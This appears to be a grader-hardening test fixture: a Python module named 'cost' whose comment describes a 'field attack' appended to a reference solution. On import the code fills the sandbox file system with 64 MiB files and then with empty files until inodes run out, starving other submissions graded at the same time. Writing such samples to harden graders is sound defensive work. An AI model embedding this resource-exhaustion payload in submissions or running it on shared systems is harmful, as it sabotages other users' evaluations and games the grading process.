# module: cost
# A field attack, appended to the reference: at import, in every child, it fills the file system
# that holds its work folder (the grader's temporary folder): 64 MiB files until there is no
# space, then empty files until there are no inodes, and keeps them while it is graded. Each file
# is within the per-file limit (RLIMIT_FSIZE) and inside the one folder it may write. A submission
# graded beside it at the same time then could not get a work folder for its next child (each
# child now writes in a file system of its own, one file's limit in all).
import os as _os

_chunk = b"\0" * (64 << 20)
for _i in range(4096):
    try:
        with open(f"fill{_i}", "wb") as _f:
            _f.write(_chunk)
    except OSError:
        break
for _i in range(200000):
    try:
        open(f"inode{_i}", "wb").close()
    except OSError:
        break
